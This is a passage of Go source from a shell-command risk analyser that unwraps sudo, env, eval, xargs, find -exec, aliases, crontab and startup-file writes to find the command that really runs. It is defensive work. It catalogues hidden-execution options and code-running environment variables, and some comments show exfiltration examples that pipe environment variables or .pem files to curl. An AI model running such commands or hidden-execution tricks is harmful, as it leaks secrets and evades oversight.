package riskmodel

import (
	"path"
	"sort"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// shells are interpreters whose -c argument, stdin or heredoc is shell code we can parse.
var shells = table[map[string]bool]{build: func() map[string]bool {
	// csh, tcsh, yash, posh, sash and elvish take -c the same way (GTFOBins csh, tcsh, yash,
	// posh, sash, elvish): code they are given that is not POSIX shell does not parse, and
	// unparsable code is high, never an unknown command at medium.
	return map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true, "ash": true, "fish": true,
		"csh": true, "tcsh": true, "yash": true, "posh": true, "sash": true, "elvish": true}
}}

// add records a segment with the context it was reached through.
func (x *extractor) add(seg *Segment, ctx walkCtx) {
	if x.full() {
		x.tooComplex(ctx)
		// Past the limit, distinct segments are still kept for a scan for critical
		// findings: padding must not turn a deny into an ask.
		key := strings.Join(seg.Args, "\x00")
		if len(x.tail) < maxTail && !x.tailSeen[key] {
			x.tailSeen[key] = true
			seg.Via, seg.Depth, seg.scope = ctx.via, ctx.depth, x.scope
			seg.Privileged = seg.Privileged || ctx.privileged
			if seg.PipeIn == nil {
				seg.PipeIn = ctx.pipeIn
			}
			x.tail = append(x.tail, seg)
		}
		return
	}
	seg.scope = x.scope
	if len(x.prefixEnv) > 0 || len(x.codeEnv) > 0 {
		seg.CodeEnv = append(append([]string(nil), x.prefixEnv...), sortedEnv(x.codeEnv)...)
	}
	seg.Via = ctx.via
	seg.Privileged = seg.Privileged || ctx.privileged
	seg.Depth = ctx.depth
	if ctx.decoded && !hasVia(seg, "decoded") {
		seg.Via = append(append([]string(nil), seg.Via...), "decoded")
	}
	if seg.PipeIn == nil {
		seg.PipeIn = ctx.pipeIn
	}
	x.segs = append(x.segs, seg)
	x.flow(seg, ctx)
	x.shellState(seg)
	if code, ok := x.persistedCode(seg); ok {
		c := ctx.with("persisted")
		c.depth++
		c.pipeIn = nil
		x.script(code, c)
	}
}

// persistedCode returns the shell text a segment stores where it will run later: echo/printf
// appended to a shell startup file, lines fed to crontab or at. Judging that text now is the
// only chance to see it before it runs unattended.
func (x *extractor) persistedCode(seg *Segment) (string, bool) {
	switch seg.Name() {
	case "echo", "printf":
		for _, r := range seg.Redirs {
			if abs, ok := x.scope.Resolve(r.Target); ok && r.Writes() && isStartupPath(x.scope, abs) {
				out, ok, _ := segmentOutput(seg, x.scope)
				return out, ok
			}
		}
	case "crontab", "scrontab", "at", "batch", "tee":
		if seg.Name() == "tee" {
			persist := false
			for _, a := range seg.Args[1:] {
				if abs, ok := x.scope.Resolve(a); ok && isStartupPath(x.scope, abs) {
					persist = true
				}
			}
			if !persist {
				return "", false
			}
		}
		in, ok := stdinText(seg, x.scope)
		if !ok {
			return "", false
		}
		if seg.Name() == "crontab" || seg.Name() == "scrontab" {
			in = stripCronSchedule(in)
		}
		return in, true
	}
	return "", false
}

// stripCronSchedule drops the five schedule fields (or an @keyword) of crontab lines.
func stripCronSchedule(s string) string {
	var b strings.Builder
	for _, line := range strings.Split(s, "\n") {
		f := strings.Fields(line)
		switch {
		case len(f) == 0 || strings.HasPrefix(f[0], "#"):
			continue
		case strings.HasPrefix(f[0], "@") && len(f) > 1:
			b.WriteString(strings.Join(f[1:], " "))
		case len(f) > 5:
			b.WriteString(strings.Join(f[5:], " "))
		default:
			b.WriteString(line)
		}
		b.WriteString("\n")
	}
	return b.String()
}

func hasVia(s *Segment, v string) bool {
	for _, w := range s.Via {
		if w == v {
			return true
		}
	}
	return false
}

// command unwraps prefixes and interpreters until the command that really runs is reached,
// records it, and returns it.
func (x *extractor) command(seg *Segment, ctx walkCtx) *Segment {
	for _, code := range embeddedCommands(seg) {
		c := ctx.with(seg.Name() + " option")
		c.depth++
		c.pipeIn = nil
		x.script(code, c)
	}
	for guard := 0; guard < 32 && len(seg.Args) > 0; guard++ {
		if a := winCommandArgs(seg.Args, ctx); a != nil {
			seg.Args = a // r18win_pwsh.go: Remove-Item -Recurse → rm -r
		}
		name := seg.Name()
		args := seg.Args
		if body, ok := x.aliases[args[0]]; ok && !hasVia(seg, "alias "+args[0]) && !viaHas(ctx, "alias "+args[0]) {
			// An alias is text substitution: its body followed by the arguments.
			c := ctx.with("alias " + args[0])
			c.depth++
			return x.nested(seg, body+" "+shellJoin(args[1:]), c)
		}
		if body, ok := x.funcs[args[0]]; ok && !x.inFunc[args[0]] {
			return x.callFunc(args, body, seg, ctx)
		}
		switch {
		case name == "trap" && len(args) >= 3 && args[1] != "-" && !strings.HasPrefix(args[1], "-"):
			// trap 'CODE' EXIT: the code runs when the signal comes (or the script ends).
			c := ctx.with("trap")
			c.depth++
			c.pipeIn = nil
			x.script(args[1], c)
			x.add(seg, ctx)
			return seg
		case name == "alias":
			for _, a := range args[1:] {
				if i := strings.IndexByte(a, '='); i > 0 {
					x.aliases[a[:i]] = a[i+1:]
					c := ctx.with("alias " + a[:i])
					c.depth++
					c.pipeIn = nil
					x.script(a[i+1:], c)
				}
			}
			x.add(seg, ctx)
			return seg
		case isAssignWord(args[0]):
			// VAR=value cmd … from an argv request or after sudo (parsed scripts strip these
			// already): a variable that runs or loads code is judged like any other.
			i := strings.IndexByte(args[0], '=')
			x.envAssign(args[0][:i], args[0][i+1:], false, ctx)
			seg.Args = args[1:]
			continue
		case elixirScriptCmd(name, args[1:]) != nil:
			// elixir -S mix test, iex -S mix phx.server: the script on PATH is what runs.
			ctx = ctx.with(name + " -S")
			seg.Args = elixirScriptCmd(name, args[1:])
			continue
		case tableWrappers.get()[name] != nil:
			w := tableWrappers.get()[name]
			argv, codes, runs, priv, timer := w.unwrap(args[1:])
			inner := ctx.with(name)
			if timer {
				inner = inner.with("scheduled by " + name)
			}
			inner.privileged = inner.privileged || priv
			if runs && w.self != nil && w.self(args[1:]) {
				// The wrapper's own use (an attach, a command file) is judged, and so is the
				// code its options carry; the program it would start is not the point.
				for _, code := range codes {
					c := inner
					c.depth++
					x.nested(seg, code, c)
				}
				runs = false
			}
			if !runs {
				// No inner command: the wrapper itself (a shell, an attach, a listing).
				seg.Privileged = seg.Privileged || priv
				x.add(seg, ctx)
				return seg
			}
			if len(codes) > 0 {
				c := inner
				c.depth++
				var last *Segment
				for _, code := range codes {
					last = x.nested(seg, code, c)
				}
				if argv == nil {
					return last
				}
			}
			ctx = inner
			seg.Redirs = append(seg.Redirs, toolFileRedirs(seg)...) // strace -o FILE, rlwrap -l FILE (toolfiles.go)
			seg.Args = argv
			continue
		case name == "sudo" || name == "doas" || name == "pkexec" || name == "run0":
			rest := skipOpts(args[1:], sudoArgOpts.get())
			if len(rest) == 0 {
				// sudo -s / sudo -i / sudo -v: keep the segment itself for the rules.
				seg.Privileged = true
				x.add(seg, ctx)
				return seg
			}
			ctx = ctx.with(name)
			ctx.privileged = true
			seg.Args = rest
			continue
		case name == "su":
			if code, ok := optValue(args[1:], "-c", "--command"); ok {
				c := ctx.with("su -c")
				c.privileged = true
				c.depth++
				return x.nested(seg, code, c)
			}
			seg.Privileged = true
			x.add(seg, ctx)
			return seg
		case name == "env":
			rest := args[1:]
			for len(rest) > 0 {
				a := rest[0]
				if a == "-u" || a == "-C" || a == "--chdir" || a == "--unset" || a == "-S" || a == "--split-string" {
					if (a == "-S" || a == "--split-string") && len(rest) > 1 {
						c := ctx.with("env -S")
						c.depth++
						return x.nested(seg, rest[1], c)
					}
					if len(rest) > 1 {
						rest = rest[2:]
						continue
					}
				}
				if isAssignWord(a) {
					i := strings.IndexByte(a, '=')
					x.envAssign(a[:i], a[i+1:], false, ctx)
				}
				if strings.HasPrefix(a, "-") || isAssignWord(a) {
					rest = rest[1:]
					continue
				}
				break
			}
			if len(rest) == 0 {
				x.add(seg, ctx) // plain "env" prints the environment
				return seg
			}
			ctx = ctx.with("env")
			seg.Args = rest
			continue
		case name == "nohup" || name == "setsid" || name == "chronic" || name == "unbuffer" || name == "builtin" ||
			name == "exec" && len(args) > 1 || name == "caffeinate" || name == "stdbuf" || name == "nice" || name == "ionice" ||
			name == "time" || name == "timeout" || name == "gtimeout" || name == "flock" || name == "torsocks" || name == "proxychains" || name == "proxychains4" ||
			launcherArgOpts.get()[name] != nil:
			rest, launcher := launcherArgv(name, args[1:]) // srun, mpirun, bsub: launchers.go
			if !launcher {
				rest = skipOpts(args[1:], wrapperArgOpts.get()[name])
			}
			if (name == "timeout" || name == "gtimeout") && len(rest) > 0 {
				rest = rest[1:] // the duration
			}
			if name == "flock" && len(rest) > 0 {
				rest = rest[1:] // the lock file
			}
			if len(rest) == 0 {
				x.add(seg, ctx)
				return seg
			}
			ctx = ctx.with(name)
			seg.Args = rest
			continue
		case name == "command":
			rest := args[1:]
			if len(rest) > 0 && (rest[0] == "-v" || rest[0] == "-V") {
				x.add(seg, ctx) // a lookup, runs nothing
				return seg
			}
			rest = skipOpts(rest, nil)
			if len(rest) == 0 {
				x.add(seg, ctx)
				return seg
			}
			seg.Args = rest
			continue
		case name == "eval":
			c := ctx.with("eval")
			c.depth++
			return x.nested(seg, strings.Join(args[1:], " "), c)
		case name == "watch":
			rest := skipOpts(args[1:], map[string]bool{"-n": true, "--interval": true})
			c := ctx.with("watch")
			c.depth++
			return x.nested(seg, strings.Join(rest, " "), c)
		case name == "xargs":
			return x.xargs(seg, ctx)
		case name == "find" || name == "fd" && hasArg(args, "-x", "--exec", "-X", "--exec-batch"):
			ran := x.findExec(seg, ctx)
			x.add(seg, ctx)
			seg.Out = seg.Out.union(ran)
			return seg
		case interpreters.get()[name] || codeRunners.get()[name]:
			code, ok := inlineCode(seg)
			if !ok && !codeRunners.get()[name] && scriptless(args[1:]) && !isReplFlag(args[1:]) {
				if in, _, fed := x.fedCode(seg); fed {
					code, ok = in, true
				}
			}
			if ok {
				if x.inlineSegment(seg, name, code, ctx) {
					return seg
				}
			}
		case shells.get()[name]:
			if code, ok := shellCode(args[1:]); ok {
				c := ctx.with(name + " -c")
				c.depth++
				saved := x.scope // a new shell process: its cd does not last
				defer func() { x.scope = saved }()
				return x.nested(seg, code, c)
			}
			if scriptless(args[1:]) {
				if in, from, ok := x.fedCode(seg); ok {
					c := ctx.with(from)
					c.depth++
					c.decoded = c.decoded || strings.HasPrefix(from, "decoded")
					seg.Code = true
					x.add(seg, ctx)
					x.script(in, c)
					return seg
				}
			}
		}
		break
	}
	if len(seg.Args) == 0 && len(seg.Redirs) == 0 {
		return nil
	}
	x.add(seg, ctx)
	return seg
}

func langOf(name string) string {
	if l, ok := codeLangOf.get()[strings.TrimSuffix(strings.ToLower(name), ".exe")]; ok {
		return l
	}
	if strings.HasPrefix(name, "python") {
		return "python"
	}
	return name
}

// isReplFlag reports interpreter flags that print something and exit (python -V).
func isReplFlag(args []string) bool {
	for _, a := range args {
		switch a {
		case "-V", "--version", "-h", "--help", "-v":
			return true
		}
	}
	return false
}

// nested records the wrapper segment when its code is unknown, and otherwise parses the code.
func (x *extractor) nested(wrapper *Segment, code string, ctx walkCtx) *Segment {
	if wrapper.Dynamic && strings.Contains(code, "$") {
		// The code is (partly) unknown: the wrapper stays as a segment so the rules can
		// judge the opaque execution, and whatever is known of the code is parsed too.
		x.add(wrapper, ctx)
	}
	// Redirections on the wrapper apply to what it runs: keep them visible.
	if len(wrapper.Redirs) > 0 {
		r := &Segment{Text: wrapper.Text, Redirs: wrapper.Redirs, Parsed: true}
		x.add(r, ctx)
	}
	ctx.pipeIn = wrapper.PipeIn
	if wrapper.Stdin != "" && ctx.pipeIn == nil {
		ctx.pipeIn = &Segment{Args: []string{"cat"}, Stdin: wrapper.Stdin, Parsed: true}
	}
	return x.script(code, ctx)
}

// gitExecKeys are git config keys whose value is a command git runs.
var gitExecKeys = []string{"core.sshcommand", "core.pager", "core.fsmonitor", "core.editor", "core.askpass", "credential.helper",
	"sequence.editor", "diff.external", "gpg.program", "pager.", "alias.", "filter.", "uploadpack.packobjectshook", "protocol.ext.allow"}

// embeddedCommands returns shell commands hidden in option values: tar
// --checkpoint-action=exec=CMD, rsync -e CMD, git -c core.sshCommand=CMD, ssh -o
// ProxyCommand=CMD, vim -c '!CMD', script -c CMD, awk's system("CMD"), make CC='CMD'.
func embeddedCommands(s *Segment) []string {
	var out []string
	args := s.Args
	next := func(i int) string {
		if i+1 < len(args) {
			return args[i+1]
		}
		return ""
	}
	out = append(out, sqliteCodes(s)...)
	out = append(out, launcherCodes(s)...)
	out = append(out, dbClientCodes(s)...)
	out = append(out, packageScriptCodes(s)...)
	out = append(out, appCodeCommands(s)...)
	for i := 1; i < len(args); i++ {
		a := args[i]
		switch s.Name() {
		case "tar", "gtar", "bsdtar":
			for _, p := range []string{"--checkpoint-action=exec=", "--to-command=", "--use-compress-program=", "--rsh-command=", "--info-script=", "--new-volume-script="} {
				if strings.HasPrefix(a, p) {
					out = append(out, a[len(p):])
				}
			}
			if a == "-I" || a == "--to-command" || a == "--use-compress-program" || a == "-F" {
				out = append(out, next(i))
			}
		case "rsync":
			if a == "-e" || a == "--rsh" {
				out = append(out, next(i))
			} else if strings.HasPrefix(a, "--rsh=") || strings.HasPrefix(a, "--rsync-path=") {
				out = append(out, a[strings.IndexByte(a, '=')+1:])
			}
		case "git":
			kv := ""
			if a == "-c" {
				kv = next(i)
			} else if strings.HasPrefix(a, "-c") && len(a) > 2 {
				kv = a[2:]
			} else if strings.HasPrefix(a, "--config-env=") {
				kv = a[len("--config-env="):]
			}
			if eq := strings.IndexByte(kv, '='); eq > 0 {
				k := strings.ToLower(kv[:eq])
				for _, e := range gitExecKeys {
					if strings.HasPrefix(k, e) {
						out = append(out, strings.TrimPrefix(kv[eq+1:], "!"))
					}
				}
			}
			sub, _ := gitSub(s)
			if v, ok := gitPackProgram(args, i, sub); ok {
				out = append(out, v)
			}
			if !strings.HasPrefix(a, "-") {
				for j := i + 1; j < len(args); j++ {
					if v, ok := gitPackProgram(args, j, sub); ok {
						out = append(out, v)
					}
				}
				i = len(args) // options after the subcommand are not git's
			}
		case "ssh", "scp", "sftp", "autossh":
			o := ""
			if a == "-o" {
				o = next(i)
			} else if strings.HasPrefix(a, "-o") {
				o = a[2:]
			}
			for _, p := range []string{"proxycommand=", "localcommand=", "proxycommand ", "localcommand "} {
				if strings.HasPrefix(strings.ToLower(o), p) {
					out = append(out, o[len(p):])
				}
			}
		case "vim", "vi", "nvim", "ex", "view", "gvim":
			c := ""
			if a == "-c" || a == "--cmd" {
				c = next(i)
			} else if strings.HasPrefix(a, "+") {
				c = a[1:]
			}
			c = strings.TrimPrefix(strings.TrimSpace(c), ":")
			if code, ok := vimEscape(c); ok {
				out = append(out, code)
			} else if strings.HasPrefix(c, "!") {
				out = append(out, c[1:])
			} else if strings.HasPrefix(c, "call system(") || strings.HasPrefix(c, "silent !") {
				out = append(out, strings.TrimPrefix(strings.Trim(strings.TrimPrefix(c, "call system("), "\"')"), "silent !"))
			}
		case "script", "flock", "su", "runuser", "zip":
			if (a == "-c" || a == "--command" || a == "-TT") && s.Name() != "su" {
				out = append(out, next(i))
			}
		case "awk", "gawk", "mawk", "nawk":
			if !strings.HasPrefix(a, "-") {
				for _, m := range reShellCall().FindAllStringSubmatch(a, 16) {
					out = append(out, m[1]+m[2]+m[3])
				}
				i = len(args)
			}
		case "make", "gmake", "bmake":
			// make CC='sh -c …' all: a variable override becomes the command a recipe runs.
			if isAssignWord(a) {
				if v := a[strings.IndexByte(a, '=')+1:]; strings.ContainsAny(v, " ;|&$`") {
					out = append(out, v)
				}
			}
		case "parallel":
			if a == ":::" {
				i = len(args)
			}
		case "hyperfine":
			// Every operand is a command line hyperfine runs through a shell, and so are its
			// setup, prepare, conclude and cleanup options (tldr-pages: hyperfine; hyperfine
			// --help).
			switch {
			case a == "-p" || a == "--prepare" || a == "-s" || a == "--setup" || a == "-c" || a == "--cleanup" || a == "--conclude":
				out = append(out, next(i))
				i++
			case strings.HasPrefix(a, "--prepare=") || strings.HasPrefix(a, "--setup=") || strings.HasPrefix(a, "--cleanup=") || strings.HasPrefix(a, "--conclude="):
				out = append(out, a[strings.IndexByte(a, '=')+1:])
			case a == "-L" || a == "--parameter-list":
				i += 2 // NAME VALUES
			case a == "-P" || a == "--parameter-scan":
				i += 3 // NAME MIN MAX
			case hyperfineValueOpts.get()[a]:
				i++
			case !strings.HasPrefix(a, "-"):
				out = append(out, a)
			}
		case "less", "more", "man":
			if strings.HasPrefix(a, "+!") {
				out = append(out, a[2:])
			}
			if p, ok := manPager(s.Name(), args, i); ok {
				out = append(out, p)
			}
		case "emacs", "emacsclient":
			if a == "--eval" || a == "-eval" || a == "--execute" || strings.HasPrefix(a, "--eval=") {
				e := next(i)
				if strings.HasPrefix(a, "--eval=") {
					e = a[len("--eval="):]
				}
				out = append(out, elispShell(e)...)
			}
		}
	}
	var clean []string
	for _, c := range out {
		if strings.TrimSpace(c) != "" {
			clean = append(clean, c)
		}
	}
	return clean
}

// hyperfineValueOpts are hyperfine's options that take a value (hyperfine --help), so their
// value is not read as a command to benchmark.
var hyperfineValueOpts = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"-w": true, "--warmup": true, "-m": true, "--min-runs": true, "-M": true,
		"--max-runs": true, "-r": true, "--runs": true, "-D": true, "--parameter-step-size": true,
		"-S": true, "--shell": true, "--style": true, "--sort": true, "-u": true, "--time-unit": true, "--export-asciidoc": true,
		"--export-csv": true, "--export-json": true, "--export-markdown": true, "--export-orgmode": true, "--output": true,
		"--input": true, "-n": true, "--command-name": true, "--reference": true}
}}

// fedCode returns the code a scriptless interpreter reads on stdin: a heredoc, a here-string,
// or the known output of what is piped in (echo …, base64 -d, …). ok is false when stdin is
// unknown (curl …, cat file); the rules judge that case from PipeIn.
func (x *extractor) fedCode(seg *Segment) (code, via string, ok bool) {
	if seg.Stdin != "" {
		return seg.Stdin, "heredoc", true
	}
	if seg.PipeIn != nil {
		out, ok, dec := segmentOutput(seg.PipeIn, x.scope)
		if ok {
			if dec {
				return out, "decoded | " + seg.Name(), true
			}
			return out, "piped to " + seg.Name(), true
		}
	}
	return "", "", false
}

// xargs unwraps "xargs [opts] cmd args": the command runs with arguments read from stdin,
// which are resolved to what find would print when find feeds it, else unknown.
func (x *extractor) xargs(seg *Segment, ctx walkCtx) *Segment {
	rest := skipOpts(seg.Args[1:], map[string]bool{"-n": true, "-I": true, "-P": true, "-d": true, "-L": true, "-a": true, "-E": true, "-s": true, "--max-args": true, "--max-procs": true, "--delimiter": true, "--arg-file": true})
	own := seg.Args[1 : len(seg.Args)-len(rest)] // xargs's own options, not the command's
	input := "${each input line}"
	var known []string
	if seg.PipeIn != nil && seg.PipeIn.Name() == "find" {
		if roots := findRoots(seg.PipeIn.Args); len(roots) > 0 {
			input = findPlaceholder(seg.PipeIn.Args, roots[0])
		}
	} else if seg.PipeIn != nil {
		if out, ok, _ := segmentOutput(seg.PipeIn, x.scope); ok && len(strings.Fields(out)) <= 64 {
			known = strings.Fields(out)
		}
	}
	if len(rest) == 0 {
		rest = []string{"echo"}
	}
	inner := &Segment{Args: append(append([]string(nil), rest...), input), Text: seg.Text, PipeIn: nil, Parsed: seg.Parsed, Dynamic: seg.Dynamic,
		Redirs: toolFileRedirs(seg)} // xargs -a FILE reads FILE (toolfiles.go)
	// What xargs reads becomes the command's words: the data on its pipe reaches them as a
	// $(…) would (env | xargs -I{} curl "https://host/?d={}" sends the environment).
	inner.In, inner.Feeds = seg.In, seg.Feeds
	if seg.PipeIn != nil {
		inner.In = inner.In.union(seg.PipeIn.Out)
		inner.Feeds = append(append([]*Segment(nil), seg.Feeds...), seg.PipeIn)
	}
	replace, ok := optValue(own, "-I", "--replace")
	if !ok && containsArg(own, "-i") {
		replace, ok = "{}", true // -i is -I {} (GNU xargs, deprecated)
	}
	if len(known) > 0 {
		inner.Args = append(inner.Args[:len(inner.Args)-1], known...)
	} else if ok {
		inner.Args = inner.Args[:len(inner.Args)-1]
		for i, a := range inner.Args {
			inner.Args[i] = strings.ReplaceAll(a, replace, input)
		}
	}
	c := ctx.with("xargs")
	c.pipeIn = nil
	return x.command(inner, c)
}

// findExec records what "find ROOTS … -exec cmd {} ;" runs, with {} standing for a file
// under the roots, and returns the taint of what those commands print (find's own output).
func (x *extractor) findExec(seg *Segment, ctx walkCtx) (out taint) {
	args := seg.Args
	roots := findRoots(args)
	root := "."
	if len(roots) > 0 {
		root = roots[0]
	}
	placeholder := findPlaceholder(args, root)
	for i := 1; i < len(args); i++ {
		switch args[i] {
		case "-exec", "-execdir", "-ok", "-okdir", "-x", "--exec", "-X", "--exec-batch":
			j := i + 1
			var cmd []string
			for ; j < len(args) && args[j] != ";" && args[j] != "+" && args[j] != `\;`; j++ {
				cmd = append(cmd, strings.ReplaceAll(args[j], "{}", placeholder))
			}
			if len(cmd) > 0 {
				if !containsArg(cmd, placeholder) && (args[0] == "find" || strings.HasSuffix(args[0], "/find")) {
					cmd = append(cmd, placeholder)
				}
				inner := &Segment{Args: cmd, Text: seg.Text, Parsed: seg.Parsed, Dynamic: seg.Dynamic}
				// What the -exec command prints is find's output: a secret it reads flows on
				// down find's pipe (find ~ -name '*.pem' -exec cat {} \; | curl --data @- …).
				if ran := x.command(inner, ctx.with("find -exec")); ran != nil {
					out = out.union(ran.Out)
				}
			}
			i = j
		}
	}
	return out
}

// findPlaceholder is the path standing for what find matches below root: root/{} or, with a
// -name filter, root/NAME with globs replaced by {} (so "*.pyc" stays recognisable).
// findGlobPlaceholder turns a -name pattern into placeholder text; built once.
var findGlobPlaceholder = table[*strings.Replacer]{build: func() *strings.Replacer { return strings.NewReplacer("*", "{}", "?", "{}", "[", "{", "]", "}") }}

func findPlaceholder(args []string, root string) string {
	name := "{}"
	if n, ok := optValue(args[1:], "-name", "-iname"); ok && n != "" {
		name = findGlobPlaceholder.get().Replace(n)
	}
	return strings.TrimSuffix(root, "/") + "/" + name
}

// findFiltered reports whether find selects by name, path, type or age, so it acts on some
// files under its roots rather than all of them.
func findFiltered(args []string) bool {
	for _, a := range args[1:] {
		switch a {
		case "-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-mtime", "-mmin", "-newer", "-size", "-empty", "-user", "-perm", "-atime", "-ctime":
			return true
		}
	}
	return false
}

// findRoots returns the starting points of a find command: the words before the first
// expression.
func findRoots(args []string) []string {
	var roots []string
	for _, a := range args[1:] {
		if a == "-H" || a == "-L" || a == "-P" {
			continue
		}
		if strings.HasPrefix(a, "-") || a == "(" || a == "!" || a == `\(` {
			break
		}
		roots = append(roots, a)
	}
	if len(roots) == 0 && len(args) > 0 && args[0] == "find" {
		roots = []string{"."}
	}
	return roots
}

// shellCode finds the script of "bash [opts] -c SCRIPT" (also -lc, -ec, --login -c, …).
func shellCode(args []string) (string, bool) {
	for i, a := range args {
		if a == "--" {
			return "", false
		}
		if strings.HasPrefix(a, "--") {
			continue
		}
		if strings.HasPrefix(a, "-") || strings.HasPrefix(a, "+") {
			if strings.ContainsRune(a[1:], 'c') && !strings.HasPrefix(a, "+") {
				if i+1 < len(args) {
					return args[i+1], true
				}
				return "", false
			}
			if a == "-o" || a == "+o" || a == "-O" || a == "+O" {
				continue
			}
			continue
		}
		return "", false // a script file or another argument comes first
	}
	return "", false
}

// scriptless reports whether a shell invocation reads its script from stdin (no script file).
func scriptless(args []string) bool {
	for _, a := range args {
		if a == "-s" || a == "-" {
			return true
		}
		if !strings.HasPrefix(a, "-") {
			return false
		}
	}
	return true
}

// isAssignWord reports whether an argv word is an environment assignment (NAME=value).
func isAssignWord(s string) bool {
	i := strings.IndexByte(s, '=')
	if i <= 0 {
		return false
	}
	for j := 0; j < i; j++ {
		c := s[j]
		if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || j > 0 && c >= '0' && c <= '9') {
			return false
		}
	}
	return true
}

var sudoArgOpts = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"-u": true, "-g": true, "-h": true, "-p": true, "-C": true, "-D": true, "-r": true, "-t": true, "-T": true, "-U": true, "--user": true, "--group": true, "--host": true, "--prompt": true, "--chdir": true}
}}

var wrapperArgOpts = table[map[string]map[string]bool]{build: func() map[string]map[string]bool {
	return map[string]map[string]bool{
		"nice":         {"-n": true, "--adjustment": true},
		"ionice":       {"-c": true, "-n": true, "-p": true, "--class": true, "--classdata": true},
		"timeout":      {"-s": true, "-k": true, "--signal": true, "--kill-after": true},
		"gtimeout":     {"-s": true, "-k": true, "--signal": true, "--kill-after": true},
		"stdbuf":       {"-i": true, "-o": true, "-e": true},
		"flock":        {"-w": true, "-E": true, "--timeout": true},
		"exec":         {"-a": true},
		"time":         {"-f": true, "-o": true, "--format": true, "--output": true},
		"proxychains":  {"-f": true},
		"proxychains4": {"-f": true},
		"torsocks":     {"-u": true, "-p": true, "-a": true, "-P": true, "--user": true, "--pass": true, "--address": true, "--port": true},
		"setsid":       {},
	}
}}

// skipOpts drops leading options; withArg names the options that take a separate argument.
func skipOpts(args []string, withArg map[string]bool) []string {
	for len(args) > 0 {
		a := args[0]
		if a == "--" {
			return args[1:]
		}
		if !strings.HasPrefix(a, "-") || a == "-" {
			return args
		}
		if withArg[a] && len(args) > 1 {
			args = args[2:]
			continue
		}
		args = args[1:]
	}
	return args
}

// optValue returns the value of an option given as "-c VALUE", "-cVALUE" or "--opt=VALUE".
func optValue(args []string, names ...string) (string, bool) {
	for i, a := range args {
		for _, n := range names {
			switch {
			case a == n && i+1 < len(args):
				return args[i+1], true
			case strings.HasPrefix(n, "--") && strings.HasPrefix(a, n+"="):
				return a[len(n)+1:], true
			case len(n) == 2 && !strings.HasPrefix(n, "--") && strings.HasPrefix(a, n) && len(a) > 2 && !strings.HasPrefix(a, "--"):
				return a[2:], true
			}
		}
	}
	return "", false
}

func hasArg(args []string, names ...string) bool {
	for _, a := range args[1:] {
		for _, n := range names {
			if a == n {
				return true
			}
		}
	}
	return false
}

func containsArg(args []string, v string) bool {
	for _, a := range args {
		if strings.Contains(a, v) {
			return true
		}
	}
	return false
}

func viaHas(ctx walkCtx, v string) bool {
	for _, w := range ctx.via {
		if w == v {
			return true
		}
	}
	return false
}

// shellJoin quotes words so that parsing the result gives them back.
func shellJoin(args []string) string {
	var b strings.Builder
	for i, a := range args {
		if i > 0 {
			b.WriteByte(' ')
		}
		if a != "" && !strings.ContainsAny(a, " \t\n'\"\\$`;&|<>(){}*?[]#~!") {
			b.WriteString(a)
			continue
		}
		b.WriteString("'" + strings.ReplaceAll(a, "'", `'\''`) + "'")
	}
	return b.String()
}

// callFunc walks the body of a function defined earlier in the request with its
// arguments as $1…$9, $@ and $*; the call itself adds no segment of its own.
func (x *extractor) callFunc(args []string, body *syntax.Stmt, seg *Segment, ctx walkCtx) *Segment {
	name := args[0]
	if len(args) == 1 {
		// The body was judged where it was defined, with the same (absent) arguments; only
		// cd and other state it changes matter now.
		x.inFunc[name] = true
		defer func() { x.inFunc[name] = false }()
		return x.stmt(body, ctx.with("function "+name))
	}
	keys := []string{"@", "*", "1", "2", "3", "4", "5", "6", "7", "8", "9"}
	type old struct {
		v       string
		had, uk bool
	}
	saved := map[string]old{}
	for _, k := range keys {
		v, had := x.vars[k]
		saved[k] = old{v, had, x.unknown[k]}
	}
	set := func(k, v string) { x.vars[k] = v; delete(x.unknown, k) }
	set("@", strings.Join(args[1:], " "))
	set("*", strings.Join(args[1:], " "))
	for i := 1; i <= 9; i++ {
		if i < len(args) {
			set(keys[i+1], args[i])
		} else {
			set(keys[i+1], "")
		}
	}
	x.inFunc[name] = true
	last := x.stmt(body, ctx.with("function "+name))
	x.inFunc[name] = false
	for k, o := range saved {
		delete(x.vars, k)
		delete(x.unknown, k)
		if o.had {
			x.vars[k] = o.v
		}
		if o.uk {
			x.unknown[k] = true
		}
	}
	if last == nil {
		return seg
	}
	return last
}

// codeVars are environment variables whose value is a command some program runs: git's
// ssh, diff and pager hooks, pagers and editors, bash's prompt hook, less's preprocessor.
var codeVars = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"GIT_SSH_COMMAND": true, "GIT_SSH": true, "GIT_EXTERNAL_DIFF": true, "GIT_PAGER": true, "GIT_EDITOR": true,
		"GIT_SEQUENCE_EDITOR": true, "GIT_ASKPASS": true, "SSH_ASKPASS": true, "SUDO_ASKPASS": true, "GIT_PROXY_COMMAND": true, "PAGER": true,
		"MANPAGER": true, "SYSTEMD_PAGER": true, "LESSOPEN": true, "LESSCLOSE": true, "EDITOR": true, "VISUAL": true, "PROMPT_COMMAND": true,
		"BROWSER": true, "FCEDIT": true, "RSYNC_RSH": true, "CVS_RSH": true}
}}

// transportVars name the ssh client git or rsync connect with; git appends the host and
// the remote command to it.
var transportVars = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"GIT_SSH_COMMAND": true, "GIT_SSH": true, "RSYNC_RSH": true, "CVS_RSH": true}
}}

// sshOptionsOnly handles a transport variable whose value is an ssh client with options
// ("ssh -i KEY -o IdentitiesOnly=yes"): that is routine, so only the commands hidden in its
// options (ProxyCommand, LocalCommand) are judged. It returns false for anything else, which
// is then judged as the command it is.
func (x *extractor) sshOptionsOnly(code string, ctx walkCtx) bool {
	f, err := parseBash(code)
	if err != nil || len(f.Stmts) != 1 || len(f.Stmts[0].Redirs) > 0 {
		return false
	}
	call, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) == 0 || len(call.Assigns) > 0 {
		return false
	}
	seg := &Segment{Parsed: true}
	for _, w := range call.Args {
		v, dyn, _ := x.word(w, ctx)
		if dyn {
			return false
		}
		seg.Args = append(seg.Args, v)
	}
	switch seg.Name() {
	case "ssh", "autossh", "plink", "dbclient":
	default:
		return false
	}
	for _, c := range embeddedCommands(seg) {
		x.script(c, ctx)
	}
	return true
}

// loadVars are environment variables that make programs load code from a file or library:
